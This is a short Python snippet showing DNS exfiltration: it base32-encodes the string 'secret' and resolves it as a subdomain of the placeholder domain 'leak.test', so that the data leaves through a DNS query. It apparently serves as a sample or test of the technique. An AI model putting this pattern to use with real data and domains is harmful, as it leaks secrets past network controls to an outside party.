import base64
import socket

part = base64.b32encode(b"secret").decode().strip("=")
socket.gethostbyname(f"{part}.leak.test")
